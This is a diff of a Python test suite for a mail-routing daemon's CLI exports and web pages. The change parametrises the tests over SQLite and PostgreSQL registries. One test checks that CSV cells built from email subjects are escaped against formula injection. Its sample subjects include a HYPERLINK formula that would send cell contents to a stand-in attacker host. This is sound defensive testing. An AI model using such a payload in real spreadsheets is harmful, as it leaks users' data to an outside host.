@@ -1,5 +1,5 @@
 """What a head of department gets from the CLI's exports and a request's story, with real
-mail through the real daemon into a real SQLite registry: CSV cells a spreadsheet opens
+mail through the real daemon into a real registry (SQLite and PostgreSQL): CSV cells a spreadsheet opens
 as text, never as a formula; times of a request's story in the company's zone."""
 
 from __future__ import annotations
@@ -22,12 +22,13 @@ MSK = timezone(timedelta(hours=3))
 CONTROL = ControlConfig(replies=("replies@example.com",), remind_after=0, escalate_after=7200)
 
 
-async def _daemon(make_app: Any, tmp_path: Any) -> tuple[Any, Any]:
+async def _daemon(make_app: Any, tmp_path: Any, url: str) -> tuple[Any, Any]:
+    """The daemon on `url` (a SQLite file, or a PostgreSQL database) and a config for the CLI."""
     app = await make_app(routing=write_routing(tmp_path), control=CONTROL,
-                         registry=RegistryConfig(f"sqlite+aiosqlite:///{tmp_path / 'r.db'}"))
+                         registry=RegistryConfig(url))
     app.sla_task.cancel()
     cfg = tmp_path / "config.yaml"
-    cfg.write_text(f"registry: {{url: 'sqlite+aiosqlite:///{tmp_path / 'r.db'}'}}\n"
+    cfg.write_text(f"registry: {{url: '{url}'}}\n"
                    f"routing: ['{tmp_path / 'rules' / '*.yaml'}']\n", encoding="utf-8")
     return app, cfg
 
@@ -46,11 +47,11 @@ async def _cli(*argv: str) -> tuple[int, str]:
     return code, out.getvalue()
 
 
-async def test_csv_cells_from_mail_never_become_formulas(make_app, tmp_path):
+async def test_csv_cells_from_mail_never_become_formulas(make_app, tmp_path, registry_url):
     """A customer's subject starting with = + - @ is written with a leading
     apostrophe, so Excel and LibreOffice show it as text instead of running it; Cyrillic
     and an ordinary subject are left as they are."""
-    app, cfg = await _daemon(make_app, tmp_path)
+    app, cfg = await _daemon(make_app, tmp_path, registry_url)
     port = app.bound["smtp"][1]
     subjects = ['=HYPERLINK("http://evil.example/?"&A1,"Счёт")', "+7 495 123-45-67",
                 "-2+3", "@SUM(A1:A9)", "Счёт на оплату"]
@@ -70,13 +71,13 @@ async def test_csv_cells_from_mail_never_become_formulas(make_app, tmp_path):
     assert "'@SUM(A1:A9)" in out and "\n@SUM" not in out and ",@SUM" not in out
 
 
-async def test_a_requests_story_is_told_in_the_companys_zone(make_app, tmp_path):
+async def test_a_requests_story_is_told_in_the_companys_zone(make_app, tmp_path, registry_url):
     """Monday 2027-01-11 in Moscow: the message at 10:00, the reminder at the due time 14:00
     (4 business hours), the reply at 15:30. `request show`, `registry history` and
     `registry search` print those Moscow times with their offset, in that order; before,
     they printed the UTC wall clock (07:00, 11:00, 12:30) with no zone."""
     from mailrouter.control.sla import Scheduler
-    app, cfg = await _daemon(make_app, tmp_path)
+    app, cfg = await _daemon(make_app, tmp_path, registry_url)
     port = app.bound["smtp"][1]
     app.pipeline.clock = lambda: datetime(2027, 1, 11, 10, 0, tzinfo=MSK)
     await send(port, mail("anna@client.example", "Счёт 17", "q1@client"), "anna@client.example")
@@ -103,13 +104,13 @@ async def test_a_requests_story_is_told_in_the_companys_zone(make_app, tmp_path)
     assert out.count("+03:00 ") == 2
 
 
-async def test_a_counterpartys_history_by_either_form_of_an_idn_domain(make_app, tmp_path):
+async def test_a_counterpartys_history_by_either_form_of_an_idn_domain(make_app, tmp_path, registry_url):
     """Mail from anna@xn--e1afmkfd.xn--p1ai (пример.рф as it travels) is found by
     `registry history` and by the web's counterparty query whether the head types the
     domain (or the address) in Cyrillic or in punycode, in any case; `%` is no wildcard
     in the CLI either (it listed everyone)."""
     from mailrouter.registry.queries import Scope, counterparty
-    app, cfg = await _daemon(make_app, tmp_path)
+    app, cfg = await _daemon(make_app, tmp_path, registry_url)
     port = app.bound["smtp"][1]
     app.pipeline.clock = lambda: datetime(2027, 1, 11, 10, 0, tzinfo=MSK)
     await send(port, mail("anna@xn--e1afmkfd.xn--p1ai", "Счёт", "q1@idn"),
@@ -128,7 +129,7 @@ async def test_a_counterpartys_history_by_either_form_of_an_idn_domain(make_app,
     assert code == 0 and json.loads(out)["messages"] == [] and json.loads(out)["requests"] == []
 
 
-async def test_web_pages_show_times_in_the_companys_zone(make_app, tmp_path):
+async def test_web_pages_show_times_in_the_companys_zone(make_app, tmp_path, registry_url):
     """A message at 22:00 UTC on 2026-12-06 is 01:00 on the 7th in Moscow, the company's
     day the search page finds it under: the search list, the message, the board and the
     request page show 2026-12-07 01:00+03:00 (and the request's history the reminder at
@@ -143,7 +144,7 @@ async def test_web_pages_show_times_in_the_companys_zone(make_app, tmp_path):
     utc = timezone.utc
     app = await make_app(routing=write_routing(tmp_path), web=Listener("127.0.0.1", 0),
                          webui=WebConfig(admins=("petrova",)), control=CONTROL,
-                         registry=RegistryConfig(f"sqlite+aiosqlite:///{tmp_path / 'r.db'}"))
+                         registry=RegistryConfig(registry_url))
     app.sla_task.cancel()
     await app.registry.write("pw", lambda c: set_password(c, "petrova", hash_password("x" * 12),
                                                           datetime(2026, 12, 1, tzinfo=utc)))
